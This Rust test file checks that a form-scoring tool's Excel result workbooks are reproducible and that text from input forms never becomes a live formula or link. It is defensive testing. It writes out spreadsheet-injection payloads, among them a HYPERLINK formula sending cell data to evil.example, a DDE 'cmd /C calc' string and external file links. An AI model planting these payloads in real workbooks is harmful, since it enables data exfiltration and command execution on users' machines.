//! Results as workbooks: read again they say what their source said, nothing of a form becomes a formula or a link in them, and
//! the same input makes the same bytes. What other programs compute in them is in `tests/proofs/result_workbooks.rs`.

use std::fs;
use std::io::{Cursor, Read};
use std::path::Path;
use std::process::Command;

use crate::harness::filled::found;
use crate::harness::program::{Run, finished, in_package, program, text_of};
use crate::harness::python;
use crate::harness::recalculated::cells;
use serde_json::Value;
use zip::ZipArchive;

const FORM: &str = "examples/la-gi-2022-slips.toml";

fn score(folder: &Path, arguments: &[&str]) -> Run {
    finished(program().current_dir(folder).args(arguments))
}

/// The text of each part of a workbook.
fn parts(bytes: &[u8]) -> Vec<(String, String)> {
    let mut archive = ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut parts = Vec::new();
    for at in 0..archive.len() {
        let mut part = archive.by_index(at).unwrap();
        let name = part.name().unwrap().into_owned();
        let mut text = String::new();
        part.read_to_string(&mut text).unwrap();
        parts.push((name, text));
    }
    parts
}

#[test]
fn a_result_read_again_has_what_was_found_in_its_source() {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("form.toml"), text_of(FORM)).unwrap();
    for command in ["check", "evaluate"] {
        let written = score(folder.path(), &[command, "form.toml", "-o", "result.xlsx"]);
        assert_eq!(written.code, 1, "{}", written.stderr);
        let source = found(folder.path(), "form.toml");
        assert!(source.len() > 30, "{source:?}");
        assert_eq!(found(folder.path(), "result.xlsx"), source, "{command}");
    }
    let bytes = fs::read(folder.path().join("result.xlsx")).unwrap();
    score(folder.path(), &["evaluate", "form.toml", "-o", "again.xlsx"]);
    assert!(fs::read(folder.path().join("again.xlsx")).unwrap() == bytes, "the same input, other bytes");
}

#[test]
fn nothing_of_a_form_becomes_a_formula_or_a_link() {
    const PAYLOAD: &str = "=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"x\\\")";
    let folder = tempfile::tempdir().unwrap();
    let form = text_of(FORM)
        .replace("UBND Thị xã La Gi", PAYLOAD)
        .replace("\"Thống nhất\"", "\"http://evil.example/ @SUM(A1) \\u0001\"");
    assert!(form.contains("HYPERLINK") && form.contains("evil.example/ @SUM"));
    fs::write(folder.path().join("form.toml"), form).unwrap();
    for command in ["check", "evaluate", "batch"] {
        let run = score(folder.path(), &[command, "form.toml", "-o", "r.xlsx"]);
        assert!(run.code <= 1, "{}", run.stderr);
        let bytes = fs::read(folder.path().join("r.xlsx")).unwrap();
        let cells = cells("r.xlsx", &bytes);
        assert!(cells.values().any(|cell| cell.value.contains("HYPERLINK")), "the text is there");
        for cell in cells.values().filter_map(|cell| cell.formula.as_deref()) {
            assert!(!cell.contains("evil") && !cell.contains("HYPERLINK"), "{cell}");
        }
        for (name, text) in parts(&bytes) {
            assert!(!text.contains("TargetMode=\"External\""), "{name}");
            let links = text.split("<hyperlink ").skip(1);
            links.for_each(|link| {
                assert!(!link.split("/>").next().unwrap().contains("r:id"), "{name}: {link}");
            });
        }
    }
}

/// Texts that a spreadsheet might take for more than texts.
const PAYLOADS: [&str; 8] = [
    "=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"x\\\")",
    "=cmd|' /C calc'!A0",
    "='[http://evil.example/x.xlsx]S'!A1",
    "@SUM(A1)",
    "+1+1",
    "{=1}</t></is><f>1+1</f>",
    "http://evil.example/",
    "file://evil.example/share/x",
];

/// The form with these in the place of its texts.
fn with_payloads(form: &str) -> (String, usize) {
    let (mut text, mut planted) = (String::new(), 0);
    for line in form.lines() {
        let keys = ["name  = \"", "phone = \"", "fax   = \"", "email = \"", "note = \"", "evidence = \""];
        let found = keys.iter().find_map(|key| Some(line.find(key)? + key.len()));
        let end = found.and_then(|from| Some((from, from + line[from..].find('"')?)));
        match end {
            Some((from, to)) => {
                text += &[&line[..from], PAYLOADS[planted % PAYLOADS.len()], &line[to..]].concat();
                planted += 1;
            }
            None => text += line,
        }
        text.push('\n');
    }
    (text, planted)
}

#[test]
fn another_program_sees_no_formula_that_the_form_brought() {
    if !python::has("openpyxl") {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (hostile, planted) = with_payloads(&text_of(FORM));
    assert!(planted > 20, "{planted}");
    fs::write(folder.path().join("tame.toml"), text_of(FORM)).unwrap();
    fs::write(folder.path().join("hostile.toml"), hostile).unwrap();
    for name in ["tame", "hostile"] {
        let result = format!("{name}.xlsx");
        let run = score(folder.path(), &["check", &format!("{name}.toml"), "-o", &result]);
        assert!(run.code <= 1, "{}", run.stderr);
    }
    let mut python = Command::new("python3");
    python.arg(in_package("tests/formulas/openpyxl_sees.py")).args(["tame.xlsx", "hostile.xlsx"]);
    let output = python.current_dir(&folder).output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
    let seen = String::from_utf8(output.stdout).unwrap();
    let seen: Vec<Value> = seen.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let [tame, hostile] = &seen[..] else { panic!("{seen:?}") };
    for what in ["formulas", "rules"] {
        assert!(tame[what].as_array().unwrap().len() > 10, "{what}");
        assert_eq!(hostile[what], tame[what], "{what}");
    }
    let texts = hostile["texts"].as_array().unwrap();
    for payload in PAYLOADS {
        let payload = payload.replace('\\', "");
        assert!(texts.iter().any(|text| text.as_str().unwrap().contains(&payload)), "{payload}");
    }
    for seen in [tame, hostile] {
        assert_eq!((&seen["external"], &seen["links"]), (&Value::from(0), &Value::from(Vec::<Value>::new())));
    }
}

#[test]
fn a_ranking_has_live_ranks_and_a_sheet_or_a_file_for_each_unit() {
    let folder = tempfile::tempdir().unwrap();
    let units = in_package("examples/province.csv");
    let units = units.to_str().unwrap();
    let run = score(folder.path(), &["batch", units, "-o", "r.xlsx", "--sheets", "--each", "each"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(run.stderr.contains("each: 5 files written"), "{}", run.stderr);
    let bytes = fs::read(folder.path().join("r.xlsx")).unwrap();
    let cells = cells("r.xlsx", &bytes);
    let formulas = || cells.iter().filter_map(|(at, cell)| Some((at, cell, cell.formula.as_deref()?)));
    let ranks: Vec<&str> = formulas()
        .filter(|(_, _, text)| text.starts_with("RANK("))
        .map(|(_, cell, _)| cell.value.as_str())
        .collect();
    assert_eq!(ranks, ["1", "2", "3", "4", "5"]);
    let by_reference =
        formulas().filter(|((sheet, ..), _, text)| sheet == "Ranking" && text.starts_with('\''));
    assert_eq!(by_reference.count(), 10, "two totals of five units");
    // the sheets are read as units again, and so are the files
    for again in ["r.xlsx", "each"] {
        let run = score(folder.path(), &["batch", again, "--format", "csv"]);
        let totals: Vec<&str> = run.stdout.lines().skip(1).collect();
        assert_eq!(totals.len(), 5, "{again}: {}", run.stdout);
        assert!(run.stdout.contains("1,huyen-a,"), "{again}: {}", run.stdout);
    }
    for (arguments, said) in [
        (&["batch", units, "--sheets"][..], "--sheets is for workbooks"),
        (&["batch", units, "--sheets", "--no-rank"], "--no-rank"),
    ] {
        let run = score(folder.path(), arguments);
        assert_eq!(run.code, 2, "{arguments:?}: {}", run.stdout);
        assert!(run.stderr.contains(said), "{arguments:?}: {}", run.stderr);
    }
}
